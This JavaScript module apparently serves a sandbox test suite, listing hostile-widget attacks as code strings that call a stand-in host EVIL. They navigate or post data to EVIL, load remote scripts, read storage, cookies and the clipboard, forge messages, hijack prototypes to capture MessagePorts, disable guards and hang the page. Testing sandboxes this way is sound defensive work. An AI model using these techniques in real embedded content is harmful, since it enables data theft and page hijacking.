// What hostile widgets try: each attack is the body of an async function in a module of its own.
// It has EVIL, the address of another host, which counts connections; `place`, the element; and
// `context`. What it returns is what it got; an error means that it was refused.

const listed = (tag, more) => `document.body.append(Object.assign(document.createElement("${tag}"), ${more}));`;
const link = (rel, more = "") => `const made = document.createElement("link"); made.rel = "${rel}"; ${more}
  made.href = EVIL; document.head.append(made);`;
// Resolves with what happened to an element that loads something.
const loaded = (make) => `const made = ${make};
  return new Promise((done, fail) => { made.onload = made.onopen = made.onmessage = () => done("loaded");
    made.onerror = () => fail(new Error("refused")); if (made instanceof Node) place.append(made); });`;
const made = (tag, more) => loaded(`Object.assign(document.createElement("${tag}"), ${more})`);
const style = (css) => `const made = document.createElement("style"); made.textContent = \`${css}\`;
  document.head.append(made); place.textContent = "x"; getComputedStyle(place).fontFamily;`;

/** Ways out of the frame: it navigates itself, its page, or another window. */
const LEAVING = {
  "location.href": "location.href = EVIL",
  "location.assign to its own host": "location.assign('/api/v1/widgets/search?q=secret')",
  "location.reload": "location.reload()",
  "top.location": "top.location = EVIL",
  "parent.location": "parent.location.href = EVIL",
  "a link": `${listed("a", "{ href: EVIL }")} document.body.lastChild.click()`,
  "a link to _top": `${listed("a", "{ href: EVIL, target: '_top' }")} document.body.lastChild.click()`,
  "a link to _blank": `${listed("a", "{ href: EVIL, target: '_blank' }")} document.body.lastChild.click()`,
  "a link that pings": `${listed("a", "{ href: '#x', ping: EVIL }")} document.body.lastChild.click()`,
  "a download": `${listed("a", "{ href: EVIL, download: 'x' }")} document.body.lastChild.click()`,
  "a download of its own bytes":
    `${listed("a", "{ href: URL.createObjectURL(new Blob(['x'])), download: 'x' }")} document.body.lastChild.click()`,
  "meta refresh": "document.head.append(Object.assign(document.createElement('meta'), " +
    "{ httpEquiv: 'refresh', content: `0;url=${EVIL}` }))",
  "a form": `${listed("form", "{ action: EVIL, method: 'post' }")} document.forms[0].submit()`,
  "a form to _top": `${listed("form", "{ action: EVIL, target: '_top' }")} document.forms[0].submit()`,
  "javascript: address": "location.href = 'javascript:fetch(`' + EVIL + '`)'",
  "a popup": "const opened = open(EVIL); if (opened === null) throw new Error('refused'); return 'opened'",
  "document.open": "document.open(); document.write('Mine.'); document.close()",
  "the history of the page": "history.back(); history.go(-1); navigation.back?.()",
  "a base address": `${listed("base", "{ href: EVIL }")} location.assign("x")`,
};

/** Frames inside the frame, to which a browser may connect before a policy blocks them. */
const FRAMES = {
  iframe: listed("iframe", "{ src: EVIL }"),
  srcdoc: listed("iframe", "{ srcdoc: '<script>parent.postMessage(1, `*`)</script>' }"),
  "a frame of markup": "place.innerHTML = `<p><iframe src=${EVIL}></iframe></p>`",
  "a frame that is removed at once":
    "const made = document.createElement('iframe'); made.src = EVIL; place.append(made); made.remove()",
  "a frame in a closed shadow tree": "const host = place.appendChild(document.createElement('div')); " +
    "host.attachShadow({ mode: 'closed' }).append(Object.assign(document.createElement('iframe'), { src: EVIL }))",
  "a frame in a declarative shadow tree": "document.body.setHTMLUnsafe(" +
    "`<div><template shadowrootmode=closed><iframe src=${EVIL}></iframe></template></div>`)",
  object: listed("object", "{ data: EVIL }"),
  embed: listed("embed", "{ src: EVIL }"),
  "a frame set": "document.body.replaceWith(Object.assign(document.createElement('frameset'), " +
    "{ innerHTML: `<frame src=${EVIL}>` }))",
  "a parser of documents": "document.body.append(document.adoptNode(" +
    "new DOMParser().parseFromString(`<iframe src=${EVIL}></iframe>`, 'text/html').body.firstChild))",
};

/** Hints and loads of a link. */
const LINKS = Object.fromEntries(
  ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "prerender", "stylesheet", "icon",
    "manifest", "alternate stylesheet"].map((rel) => [
    `link ${rel}`, link(rel, rel === "preload" ? "made.as = 'image';" : ""),
  ]),
);
LINKS["speculation rules"] = "document.head.append(Object.assign(document.createElement('script'), " +
  "{ type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [EVIL] }] }) }))";

/** What is loaded by markup, styles and scripts. */
const LOADS = {
  image: made("img", "{ src: EVIL }"),
  "a source set": made("img", "{ srcset: EVIL + ' 2x' }"),
  video: made("video", "{ src: EVIL, preload: 'auto' }"),
  audio: loaded("new Audio(EVIL)"),
  track: "const made = document.createElement('video'); " +
    "made.innerHTML = `<track src=${EVIL} default>`; place.append(made); made.textTracks[0].mode = 'showing'",
  "an image of a form": made("input", "{ type: 'image', src: EVIL }"),
  "an image of SVG": "place.innerHTML = `<svg><image href='${EVIL}'/><use href='${EVIL}#x'/></svg>`",
  "url() in a style": style("#place { background: url(${EVIL}) }"),
  "@import in a style": style("@import '${EVIL}/x.css';"),
  "a font": "return new FontFace('x', `url(${EVIL})`).load()",
  "a cursor": style("html { cursor: url(${EVIL}), auto }"),
  "a script": made("script", "{ src: EVIL }"),
  "import()": "return import(EVIL + '/module.js')",
  "import() of its own host": "return import(location.origin + '/client/v1/client.js')",
  fetch: "return fetch(EVIL)",
  "fetch without CORS": "return fetch(EVIL, { mode: 'no-cors', keepalive: true })",
  "fetch of its own host": "return fetch('/api/v1/widgets/search')",
  XHR: "const made = new XMLHttpRequest(); made.open('GET', EVIL, false); made.send(); return made.status",
  WebSocket: loaded("new WebSocket(EVIL.replace('http', 'ws'))"),
  EventSource: loaded("new EventSource(EVIL)"),
  beacon: "navigator.sendBeacon(EVIL, 'x'); // Whether it was queued says nothing.",
  WebRTC: "const made = new RTCPeerConnection({ iceServers: [{ urls: EVIL.replace('http://', 'stun:') }] }); " +
    "made.createDataChannel('x'); await made.setLocalDescription(); return 'made'",
  WebSocketStream: "return new WebSocketStream(EVIL.replace('http', 'ws')).opened",
  fetchLater: "return fetchLater(EVIL).activated",
  "a poster": made("video", "{ poster: EVIL }"),
  "a source of an attribution": "place.append(Object.assign(document.createElement('img'), { alt: 'x' })); " +
    "place.lastChild.setAttribute('attributionsrc', EVIL)",
  "a style sheet of a script": "const made = new CSSStyleSheet(); " +
    "made.replaceSync(`#place { background: url(${EVIL}) }`); document.adoptedStyleSheets.push(made)",
  "a document of XSLT": `const text = \`<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform">
    <x:template match="/"><x:copy-of select="document('\${EVIL}')"/></x:template></x:stylesheet>\`;
    const made = new XSLTProcessor(); const parse = (it) => new DOMParser().parseFromString(it, "text/xml");
    made.importStylesheet(parse(text)); made.transformToFragment(parse("<x/>"), document)`,
  WebTransport: "return new WebTransport(EVIL.replace('http:', 'https:')).ready",
  "a worker of a blob": loaded("new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))"),
  "a worker of data": loaded("new Worker('data:text/javascript,postMessage(1)')"),
  "a shared worker": "const made = new SharedWorker(URL.createObjectURL(new Blob(['onconnect = (e) => " +
    "e.ports[0].postMessage(1)']))); return new Promise((done, fail) => { made.port.onmessage = () => done('made'); " +
    "made.onerror = () => fail(new Error('refused')); })",
  "a service worker": "return navigator.serviceWorker.register('/sw.js')",
  "an audio worklet": "return new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(EVIL)",
};

/** Storage, powerful features, and what evaluates text. */
const POWERS = {
  localStorage: "return localStorage.length",
  sessionStorage: "return sessionStorage.length",
  indexedDB: "const made = indexedDB.open('x'); return new Promise((done, fail) => " +
    "{ made.onsuccess = () => done('opened'); made.onerror = () => fail(made.error); })",
  caches: "return caches.keys()",
  cookies: "document.cookie = 'x=1'; return document.cookie",
  "a private file system": "return navigator.storage.getDirectory()",
  eval: "return (0, eval)('1')",
  Function: "return new Function('return 1')()",
  WebAssembly: "return new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))",
  "to read the clipboard": "return navigator.clipboard.readText()",
  "to write the clipboard": "return navigator.clipboard.writeText('x')",
  geolocation: "return new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail))",
  camera: "return navigator.mediaDevices.getUserMedia({ video: true })",
  screen: "return navigator.mediaDevices.getDisplayMedia()",
  notifications: "const said = await Notification.requestPermission(); " +
    "if (said !== 'granted') throw new Error(said); return said",
  "full screen": "return document.documentElement.requestFullscreen()",
  "pointer lock": "return place.requestPointerLock()",
  "a wake lock": "return navigator.wakeLock.request()",
  "the features that are allowed": "const allowed = document.featurePolicy?.allowedFeatures() ?? []; " +
    "const more = allowed.filter((it) => !/^ch-|^interest-cohort$/.test(it)); if (more.length > 0) return more.join()",
  payment: "return new PaymentRequest([{ supportedMethods: EVIL.replace('http:', 'https:') }], " +
    "{ total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()",
  "a federated sign-in": "return navigator.credentials.get({ identity: { providers: [" +
    "{ configURL: EVIL, clientId: 'x' }] } })",
  "a passkey": "return navigator.credentials.get({ publicKey: { challenge: new Uint8Array(9) } })",
  dialogs: "alert('x'); print(); if (prompt('x') !== null || confirm('x')) return 'an answer'",
};

/** The page, its frames and the bridge. */
const BRIDGE = {
  "parent.document": "return parent.document.title",
  "top.localStorage": "return top.localStorage.length",
  opener: "return top.opener.document.title",
  frameElement: "return frameElement.id",
  "other frames": "for (let at = 0; at < parent.length; at++) parent[at].postMessage(" +
    "{ bundle: `document.body.textContent = 'forged'`, keys: [] }, '*', [new MessageChannel().port1]); throw new Error('sent')",
  "forged messages to the page": "for (const type of ['ready', 'mounted', 'failed', 'store']) " +
    "parent.postMessage({ type, versions: [1], missing: null, reason: 'frames' }, '*'); throw new Error('sent')",
  "a flood to the page": "setInterval(() => { for (let at = 0; at < 500; at++) parent.postMessage(at, '*'); }, 5)",
  "a huge message to the page": "parent.postMessage(Array.from({ length: 3e5 }, (_, i) => ({ i })), '*'); throw new Error('sent')",
  "a huge value to store": "context.storage.set('huge', 'x'.repeat(1e6))",
  "a flood to store": "setInterval(() => context.storage.set('n', Math.random()), 1)",
  "prototypes of the bridge": `
    const huge = Array.from({ length: 1e5 }, (_, i) => ({ i }));
    const found = [];
    for (const type of [MessagePort, MessageEvent, Map]) {
      for (const key of Reflect.ownKeys(type.prototype)) {
        try { const own = type.prototype[key];
          if (key !== "constructor" && typeof own === "function") {
            type.prototype[key] = function (...given) { if (this instanceof MessagePort) found.push(this);
              return own.apply(this, given); };
          } } catch {}
      }
    }
    JSON.stringify = () => huge; String.prototype.slice = () => huge;
    context.storage.set("text", 1);
    await new Promise((done) => setTimeout(done, 300));
    if (found.length === 0) throw new Error("no port found"); return "port";`,
  "the setter of every key": `
    const found = [];
    for (const key of ["done", "tell", "port", "ports", "id", "value", "get", "set", "then"]) {
      try { Object.defineProperty(Object.prototype, key, { configurable: true,
        set(value) { if (value instanceof MessagePort) found.push(key); } }); } catch {}
    }
    await new Promise((done) => setTimeout(done, 1500));
    if (found.length === 0) throw new Error("nothing found"); return found.join();`,
  "removed guards, then a frame": `
    MutationObserver.prototype.disconnect = MutationObserver.prototype.observe = () => {};
    MutationObserver.prototype.takeRecords = () => [];
    Array.prototype[Symbol.iterator] = function* () {};
    Object.defineProperty(Element.prototype, "querySelector", { value: () => null });
    Object.defineProperty(Element.prototype, "matches", { value: () => false });
    setInterval(() => place.append(Object.assign(document.createElement("iframe"), { src: EVIL })), 50)`,
  "what is not granted": "const { fetchJson, call, states, locate } = context; " +
    "const got = [fetchJson, call, states, locate].filter(Boolean).length; " +
    "if (got) return got + ' functions'; throw new Error('nothing')",
};

/** It computes for ever: the page must go on, or at least come back. */
const LOOPS = {
  "a loop": "for (;;);",
  "a loop later": "setTimeout(() => { for (;;); }, 300); throw new Error('later')",
};

/** What a sandbox cannot prevent. */
const FOCUS = {
  "the focus": "place.tabIndex = 0; place.focus(); window.focus(); document.body.append(Object.assign(" +
    "document.createElement('input'), { autofocus: true }))",
};

export const GROUPS = { LEAVING, FRAMES, LINKS, LOADS, POWERS, BRIDGE, FOCUS, LOOPS };

/** The module of an attack. What it got is stored, so that the page sees it. */
export function moduleOf(attack, evil) {
  return `const EVIL = ${JSON.stringify(evil)};
    const short = ((slice) => (it) => Reflect.apply(slice, String(it), [0, 80]))(String.prototype.slice);
    const attempt = async (place, context) => { ${attack} };
    export function mount(place, context) {
      place.id = "place";
      const { set } = context.storage;
      attempt(place, context).then(
        (got) => set("outcome", "got " + (got === undefined ? "nothing" : short(got))),
        (fault) => set("outcome", "refused: " + short(fault?.message ?? fault)));
    }`;
}
